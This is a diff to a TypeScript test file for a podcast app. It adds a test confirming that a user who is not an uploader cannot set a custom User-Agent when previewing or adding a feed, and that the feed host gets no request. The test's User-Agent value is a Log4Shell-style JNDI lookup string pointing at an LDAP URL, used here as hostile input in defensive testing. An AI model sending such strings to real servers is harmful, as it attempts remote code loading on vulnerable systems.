@@ -1,5 +1,5 @@
 import { expect, test } from 'bun:test'
-import { refusal, startTestApp } from '../../support/app'
+import { refusal, startTestApp, withPasswords } from '../../support/app'
 import { noise, rss } from '../../support/builders'
 import { settled } from '../../support/downloads'
 import { startFeedHost, type Handler } from '../../support/feed-host'
@@ -90,6 +90,20 @@ test('the feed behind a web page that refuses our name is found under the name t
   const userAgent = 'Mozilla/5.0'
   expect(await app.podcasts.preview(page, undefined, userAgent)).toMatchObject({ kind: 'feed', feedUrl: feed })
   expect(await app.podcasts.add(page, { userAgent })).toMatchObject({ rssfeed: feed })
+})
+
+test('somebody who may not change the settings of a podcast chooses no name either, and its host is not asked', async () => {
+  using host = startFeedHost()
+  await using app = await startTestApp({ env: { ...withPasswords, ALLOWED_NETWORKS: '127.0.0.0/8' } })
+  const feed = host.feed('/feed.xml', rss({ items: [{}] }))
+  const { podcasts } = await app.signUp('zoe')
+  const refused = { status: 403, code: 'not-uploader' }
+  const userAgent = '${jndi:ldap://example.org/a}'
+  expect(await refusal(podcasts.preview(feed, undefined, userAgent))).toMatchObject(refused)
+  expect(await refusal(podcasts.add(feed, { userAgent }))).toMatchObject(refused)
+  expect(host.requests).toEqual([])
+  const { podcasts: ofUploader } = await app.signUp('mara', 'uploader')
+  expect(await ofUploader.preview(feed, undefined, userAgent)).toMatchObject({ kind: 'feed' })
 })
 
 test('a name that does not fit into a header is refused, and an empty one is ours', async () => {
